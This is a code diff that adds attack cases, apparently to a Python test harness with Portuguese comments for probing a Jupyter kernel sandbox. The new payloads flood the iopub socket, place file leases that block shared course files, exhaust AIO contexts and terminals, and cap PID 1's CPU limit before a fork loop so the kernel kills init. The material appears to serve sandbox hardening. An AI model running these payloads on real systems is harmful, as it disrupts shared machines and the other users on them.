@@ -58,6 +58,33 @@ def varrer(*raizes, pular=("/usr", "/proc", "/sys", "/dev", "/lib", "site-packag
                     print(os.path.join(pasta, nome), conteudo[:5000])
 """
 
+# O que está em Python demora a escrever: as partes vazias, de dois bytes, vão prontas, direto ao soquete já aberto.
+DIRETO = """
+import os, socket, stat, time
+from ipykernel.kernelapp import IPKernelApp
+do_iopub = get_ipython().kernel.iopub_thread.socket
+def ligados():
+    for fd in range(3, 512):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                soquete = socket.socket(fileno=os.dup(fd))
+                if soquete.family == socket.AF_UNIX:
+                    if str(soquete.getsockname()).endswith(f"-{IPKernelApp.instance().iopub_port}"):
+                        soquete.getpeername()
+                        yield soquete
+        except OSError:
+            pass
+def partes_vazias(mensagens):
+    bloco = b"\\1\\0" * 500_000
+    for soquete in ligados():
+        soquete.setblocking(True)
+        for _ in range(mensagens):
+            for _ in range(5):
+                soquete.sendall(bloco)
+            soquete.sendall(b"\\0\\0")
+time.sleep(0.3)
+"""
+
 
 @dataclass
 class Ataque:
@@ -456,6 +483,39 @@ for _ in range(140):
 soquete.send(b"fim")
 time.sleep(5)
 """),
+    Ataque("partes-vazias", "milhões de partes de dois bytes, que o tamanho máximo não pega", ERRADA + DIRETO
+           + "partes_vazias(2)\ntime.sleep(5)"),
+    Ataque("concessoes", "toma arquivos do curso: quem os abrisse esperaria 45 s por cada um", ERRADA + """
+import fcntl, os, signal
+signal.signal(signal.SIGIO, signal.SIG_IGN)
+for pasta, _, nomes in os.walk("<<RAIZ>>"):
+    for nome in nomes[:200]:
+        try:
+            fcntl.fcntl(os.open(os.path.join(pasta, nome), os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)
+            print("CONSEGUIU uma concessão de", nome)
+        except OSError:
+            pass
+"""),
+    Ataque("quotas", "gasta o que é do computador inteiro: contextos de AIO, terminais, a ordem de quem morre", ERRADA
+           + """
+import ctypes, os
+contextos = (ctypes.c_ulong * 2)()
+numero = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
+if ctypes.CDLL(None).syscall(numero, 60_000, contextos) == 0:
+    print("CONSEGUIU contextos de AIO")
+try:
+    open("/proc/self/oom_score_adj", "w").write("0")
+    print("CONSEGUIU mudar a ordem")
+except OSError:
+    pass
+terminais = []
+try:
+    while len(terminais) < 100:
+        terminais.append(os.openpty())
+    print("CONSEGUIU cem terminais")
+except OSError:
+    pass
+"""),
     Ataque("recado-para-a-segunda-vez", "faz-se rodar outra vez, e deixa para si mesmo o que viu na primeira", ERRADA
            + FORJAR + """
 import ctypes, os, socket
@@ -729,6 +789,15 @@ try:
     resource.prlimit(1, resource.RLIMIT_NPROC, (0, 0))
 except OSError as e:
     print(e)
+""", ENTROPIA_CERTA, merece={"entropia": 1}),
+    Ataque("processador-do-primeiro", "faz o núcleo matar o primeiro processo, como se fosse alguém de fora", ERRADA + """
+import resource, subprocess
+try:
+    resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
+except OSError as e:
+    print(e)
+else:  # cada órfão acorda o primeiro, e o limite é olhado quando ele trabalha
+    subprocess.run(["sh", "-c", "i=0; while [ $i -lt 20000 ]; do (true & ); i=$((i+1)); done"])
 """, ENTROPIA_CERTA, merece={"entropia": 1}),
     Ataque("restos-da-mae", "procura nos quadros, objetos e descritores o que sobrou de quem fez o kernel", ERRADA + """
 import gc, os, socket, sys, threading
